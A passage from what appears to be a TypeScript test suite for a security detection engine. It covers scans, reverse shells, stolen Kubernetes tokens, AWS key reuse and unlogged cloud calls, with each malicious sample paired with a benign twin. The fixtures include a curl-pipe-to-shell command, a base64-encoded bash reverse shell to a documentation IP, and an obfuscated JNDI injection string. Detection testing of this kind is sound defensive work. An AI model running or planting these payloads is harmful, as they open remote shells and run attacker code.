  ['twenty ports / nineteen', 'port-scan medium', () => many(20, (at) => flow('10.0.0.9', '10.0.0.4', at + 1)), () => many(19, (at) => flow('10.0.0.9', '10.0.0.4', at + 1))],
  ['names from a stranger / from a known resolver', 'foreign-resolver low', () => [flow('10.0.0.9', '198.51.100.9', 53)], () => [flow('10.0.0.9', '8.8.8.8', 53), flow('10.0.0.9', '10.0.0.2', 53)]],
  ['mining pool / shop', 'telling-name high', () => [name('eu.minexmr.example.com'), name('pool.supportxmr.com')], () => [name('shop.example.com'), name('monetary.example.com')]],
  ['thirty long names / twenty-nine', 'data-in-names medium', () => many(30, (at) => name(`${'a'.repeat(40)}${at}.t.example.org`)), () => many(29, (at) => name(`${'a'.repeat(40)}${at}.t.example.org`))],
  ['object without encryption / with', 'plain-access low', () => [access('-')], () => [access('ECDHE-RSA-AES128-GCM-SHA256')]],
  ['Java starts a shell / a person does', 'shell-from-server medium', () => [exec('/bin/sh', 'sh -c id', '/usr/bin/java')], () => [exec('/bin/sh', 'sh -c id', '/usr/bin/bash')]],
  ['fetched and run / fetched and kept', 'telling-command medium', () => [exec('/bin/sh', 'sh -c curl -s https://198.51.100.9/x | sh')], () => [exec('/usr/bin/curl', 'curl -o x.tgz https://example.org/x.tgz'), exec('/bin/sh', 'sh -c curl -s http://127.0.0.1/x | sh')]],
  ['shell tied to the network / health check', 'telling-command high', () => [exec('/bin/bash', `bash -c {echo,${Buffer.from('bash -i >& /dev/tcp/192.0.2.7/443 0>&1').toString('base64')}}|{base64,-d}|{bash,-i}`)], () => [exec('/bin/bash', 'bash -c exec 3<>/dev/tcp/127.0.0.1/8080')]],
  ['look-up in a header / a word in a text', 'lookup-injected medium', () => [asked('${${::-j}ndi:ldap://192.0.2.7/a}')], () => [asked('how jndi:ldap look-ups work, ${name}')]],
]; // prettier-ignore

describe('behaviours and their benign twins', () => {
  it.each(TWINS)('%s', (_, rule, bad, good) => {
    expect(rules(bad())).toContain(rule);
    const [detector = '', severity] = rule.split(' ');
    // Of what is loud, the twin may be a line; of what is a line, it must be nothing.
    const allowed = severity === 'low' ? [] : [`${detector} low`];
    const said = rules(good()).filter((found) => found.startsWith(`${detector} `));
    expect(said.filter((found) => !allowed.includes(found))).toEqual([]);
  });
});

/** Calls whose refusal is spoken of by a rule that looks closer. */
const REFUSED_TOO = new Set(['InvokeModel', 'InvokeModelWithResponseStream', 'Converse', 'ConverseStream']);

describe('calls that say enough by their name', () => {
  const plain = createDetectors().flatMap((detector) =>
    ((detector as { rules?: readonly CallRule[] }).rules ?? [])
      .filter((rule) => rule.service !== undefined && rule.when === undefined)
      .map((rule) => [detector.id, rule] as const),
  );

  it('are spoken of when they were let through, by somebody, with techniques of ATT&CK', () => {
    for (const [id, rule] of plain) {
      for (const id of rule.techniques ?? []) expect([id, technique(id)?.name]).toEqual([id, expect.any(String)]);
      for (const called of rule.names) {
        if (rule.service === '*') continue;
        const [made, refused] = [
          call(rule.service, called),
          call(rule.service, called, {}, { errorCode: 'AccessDenied' }),
        ];
        expect([called, told([made]).some((found) => found.rule === id)]).toEqual([called, true]);
        const asked = plain.some(([other, one]) => other === id && one.names.includes(called) && one.refusedToo);
        if (!asked && !REFUSED_TOO.has(called))
          expect([called, told([refused]).some((found) => found.rule === id)]).toEqual([called, false]);
      }
    }
    expect(plain.length).toBeGreaterThan(150);
  }, 60_000);
});

it('finds a request once that the API server tells twice, in any order', () => {
  const ended = request('create', 'pods/exec', { user: 'system:serviceaccount:shop:web' });
  const started = kubernetesAudit.decode({
    ...(JSON.parse(Buffer.from(ended.kubernetesAudit!.raw!).toString()) as object),
    stage: 'ResponseStarted',
  })!;
  const [straight, turned] = [told([started, ended]), told([ended, started])];
  expect(straight).toEqual(turned);
  expect(straight.filter((finding) => finding.rule === 'pod-entered').map((finding) => finding.eventIds)).toEqual([
    [ended.id, started.id],
  ]);
});

describe('stolen token', () => {
  const user = (credential: string): Record<string, unknown> => ({
    user: {
      username: 'system:serviceaccount:shop:mail',
      extra: {
        'authentication.kubernetes.io/credential-id': [credential],
        'authentication.kubernetes.io/pod-uid': ['pod-1'],
        'authentication.kubernetes.io/pod-name': ['mail-1'],
      },
    },
  });
  const at = (address: string, credential: string, forged: string[] = []): Event => {
    count += 1;
    return kubernetesAudit.decode({
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      auditID: `t-${count}`,
      stage: 'ResponseComplete',
      verb: 'get',
      requestURI: '/x',
      objectRef: { resource: 'configmaps', namespace: 'shop' },
      responseStatus: { code: 200 },
      sourceIPs: [...forged, address],
      requestReceivedTimestamp: new Date(1.8e12 + count * 1000).toISOString(),
      ...user(credential),
    })!;
  };

  it('is found however the peer lies about itself', () => {
    expect(rules([at('10.0.0.1', 'JTI=1'), at('203.0.113.9', 'JTI=1', ['10.0.0.1'])])).toContain(
      'stolen-token critical',
    );
  });

  it('is not a pod that rotates its tokens, nor one with two families of addresses', () => {
    expect(rules([at('10.0.0.1', 'JTI=1'), at('10.0.0.1', 'JTI=2'), at('fd00::1', 'JTI=2')])).toEqual([]);
  });

  it('trusts what the kernel saw of the pod over who came first', () => {
    const own: Event = {
      id: 'k-1',
      timeUs: 1.9e15,
      layer: 2,
      workload: { podUid: 'pod-1' },
      socketConnect: { localAddress: '10.0.0.1', remoteAddress: '10.9.9.9' },
    };
    const events = [at('203.0.113.9', 'JTI=1'), at('10.0.0.1', 'JTI=1'), own];
    const [finding] = told(events).filter((candidate) => candidate.rule === 'stolen-token');
    expect(finding!.eventIds).toEqual([events[0]!.id]);
  });
});

describe('second witness', () => {
  const app = { bootId: 'b', pidNamespace: '1', pid: 7, startTicks: '10' };
  const word = (id: string, seconds: number): Event => ({
    id,
    timeUs: seconds * 1e6,
    layer: 1,
    process: app,
    witnessStatus: { kind: 'stats' },
    keys: [],
  });
  const exec = (id: string, seconds: number, child: number): Event => ({
    id,
    timeUs: seconds * 1e6,
    layer: 2,
    process: { ...app, pid: child, startTicks: '20', executable: '/bin/sh' },
    processExec: { filename: '/bin/sh' },
    keys: [
      { kind: 'process', value: `b/1/${child}/20`, role: 2 },
      { kind: 'process', value: 'b/1/7/10', role: 3 },
    ],
  });
  const spawn = (id: string, seconds: number, child: number): Event => ({
    id,
    timeUs: seconds * 1e6,
    layer: 1,
    process: app,
    operation: { kind: 'process.spawn', spawn: { file: 'sh' } },
    keys: [{ kind: 'process', value: `b/1/${child}/20`, role: 1 }],
  });
  const found = (events: readonly Event[]): string[] => rules(events).filter((rule) => rule.startsWith('kernel'));

  it('finds a process that an awake agent never told of', () => {
    expect(found([word('w1', 1), exec('x', 5, 9), word('w2', 8)])).toEqual(['kernel-without-cause high']);
  });

  it.each([
    ['the agent told of it', [word('w1', 1), spawn('s', 5, 9), exec('x', 5, 9), word('w2', 8)]],
    ['the agent told of it late', [word('w1', 1), exec('x', 5, 9), word('w2', 8), spawn('s', 5, 9)]],
    ['the agent was not there yet', [exec('x', 5, 9), word('w1', 6), word('w2', 9)]],
    ['the agent is not heard of any more', [word('w1', 1), exec('x', 5, 9), word('w2', 6)]],
  ])('says nothing when %s', (_, events) => {
    expect(found(events)).toEqual([]);
    expect(found([...events].reverse())).toEqual([]);
  });
});

describe('shell from a server', () => {
  const SELF = { kind: 'process', value: 'b/1/9/20' };
  const PARENT = { kind: 'process', value: 'b/1/7/10' };
  const shell: Event = {
    id: 'shell', timeUs: 5e6, layer: 2, process: { pid: 9, executable: '/bin/sh', arguments: ['sh', '-c', 'id'] }, processExec: { filename: '/bin/sh' },
    keys: [{ ...SELF, role: 2 }, { ...PARENT, role: 3 }],
  }; // prettier-ignore
  const parent = (id: string, seconds: number, executable: string): Event => ({
    id, timeUs: seconds * 1e6, layer: 2, process: { pid: 7, executable }, processExec: { filename: executable }, keys: [{ ...PARENT, role: 2 }],
  }); // prettier-ignore
  const fork: Event = {
    id: 'fork', timeUs: 4e6, layer: 2, process: { pid: 7, executable: '/usr/bin/java' }, processFork: {}, keys: [{ ...PARENT, role: 3 }, { ...SELF, role: 1 }],
  }; // prettier-ignore
  const called: Event = {
    id: 'called', timeUs: 4e6, layer: 1, process: { pid: 7, executable: '/usr/bin/php-fpm8.2' }, operation: { kind: 'process.spawn', spawn: { file: 'sh' } },
    keys: [{ ...PARENT, role: 3 }, { ...SELF, role: 1 }],
  }; // prettier-ignore
  const found = (events: readonly Event[]): string[] => rules(events).filter((rule) => rule.startsWith('shell-from'));

  it.each([
    ['by its start', [parent('java', 1, '/usr/bin/java'), shell], 1],
    ['by its fork', [fork, shell], 1],
    ['by its own call', [called, shell], 1],
    ['by its last start', [parent('sh', 1, '/bin/sh'), parent('java', 2, '/usr/bin/java'), shell], 1],
    ['by its last start, which is no server', [parent('java', 1, '/usr/bin/java'), parent('sh', 2, '/bin/bash'), shell], 0],
    ['by a start that came after the child', [parent('sh', 1, '/bin/bash'), shell, parent('java', 6, '/usr/bin/java')], 0],
  ] as const)('knows the parent %s, in any order', (_, events, count) => {
    for (const order of orders(events)) expect([order.map(({ id }) => id), found(order).length]).toEqual([order.map(({ id }) => id), count]);
  }); // prettier-ignore
});

/** Every order of a few things. */
function orders<Item>(items: readonly Item[]): Item[][] {
  if (items.length < 2) return [[...items]];
  return items.flatMap((item, at) => orders(items.toSpliced(at, 1)).map((rest) => [item, ...rest]));
}

describe('key used elsewhere', () => {
  const key = 'ASIAAAAABBBBCCCCDDDD';
  const signed = (address: string, requestId: string): Event =>
    call(
      's3',
      'GetObject',
      { bucketName: 'b', key: requestId },
      {
        requestID: requestId,
        sourceIPAddress: address,
        userIdentity: { type: 'AssumedRole', arn: `arn:aws:sts::${ACCOUNT}:assumed-role/web/x`, accessKeyId: key },
      },
    );
  const own = (requestId: string): Event => ({
    id: `op-${requestId}`,
    timeUs: 1e15,
    layer: 1,
    workload: { service: 'web' },
    operation: { kind: 'aws.call', aws: { accessKeyId: key, requestId, operation: 'GetObject' } },
    keys: [
      { kind: 'aws-request', value: `${requestId}/GetObject`, role: 1 },
      { kind: 'access-key', value: key, role: 3 },
    ],
  });
  const left: Event = {
    id: 'left',
    timeUs: 1e15,
    layer: 1,
    operation: {
      kind: 'credential.seen',
      credential: { kind: 'aws_access_key', identifier: key, direction: 'out', where: 'response body' },
    },
    keys: [{ kind: 'access-key', value: key, role: 1 }],
  };
  const found = (events: readonly Event[]): string[] => rules(events).filter((rule) => rule.startsWith('key-used'));

  it('is found for a key that left, whichever is told first', () => {
    expect(found([left, signed('203.0.113.9', 'r1')])).toHaveLength(1);
    expect(found([signed('203.0.113.9', 'r1'), left])).toHaveLength(1);
  });

  it('is found for a key whose owner is known by its own calls', () => {
    expect(found([own('r1'), signed('10.0.0.1', 'r1'), signed('203.0.113.9', 'r2')])).toHaveLength(1);
  });

  it('is not the application itself, in any order', () => {
    const events = [signed('10.0.0.1', 'r2'), left, own('r1'), signed('10.0.0.1', 'r1')];
    expect(found(events)).toEqual([]);
    expect(found([...events].reverse())).toEqual([]);
  });

  it('is not AWS acting with the key', () => {
    expect(found([left, signed('athena.amazonaws.com', 'r1')])).toEqual([]);
  });
});

describe('unlogged call', () => {
  const key = 'ASIAAAAABBBBCCCCEEEE';
  const made = (id: string, minutes: number): Event => ({
    id: `o-${id}`,
    timeUs: minutes * 6e7,
    layer: 1,
    operation: {
      kind: 'aws.call',
      aws: { service: 's3', accessKeyId: key, requestId: id, operation: 'CreateBucket', statusCode: 200 },
    },
    keys: [
      { kind: 'aws-request', value: `${id}/CreateBucket`, role: 1 },
      { kind: 'access-key', value: key, role: 3 },
    ],
  });
  const logged = (id: string, minutes: number): Event =>
    call(
      's3',
      'CreateBucket',
      {},
      {
        requestID: id,
        eventTime: new Date(minutes * 60_000).toISOString(),
        userIdentity: { type: 'AssumedRole', arn: 'arn:aws:sts::1:assumed-role/web/x', accessKeyId: key },
      },
    );
  const found = (events: readonly Event[]): string[] => rules(events).filter((rule) => rule.startsWith('unlogged'));

  it('is found when the log went on without it', () => {
    const events = [made('r1', 1), logged('r1', 1), made('r2', 10), made('r3', 40), logged('r3', 40)];
    expect(found(events)).toEqual(['unlogged-call low']);
    expect(found([...events].reverse())).toEqual(['unlogged-call low']);
  });

  it.each([
    ['the record is only late', [made('r1', 1), logged('r1', 1), made('r2', 10), made('r3', 12), logged('r3', 12)]],
    ['the record came after all', [made('r1', 1), logged('r1', 1), made('r2', 10), logged('r3', 40), logged('r2', 10)]],
    [
      'the log never tells of such calls',
      [
        made('r2', 10),
        call(
          'sts',
          'GetCallerIdentity',
          {},
          { eventTime: new Date(60 * 60_000).toISOString(), userIdentity: { type: 'AssumedRole', accessKeyId: key } },
        ),
      ],
    ],
  ])('says nothing when %s', (_, events) => {
    expect(found(events)).toEqual([]);
  });
});
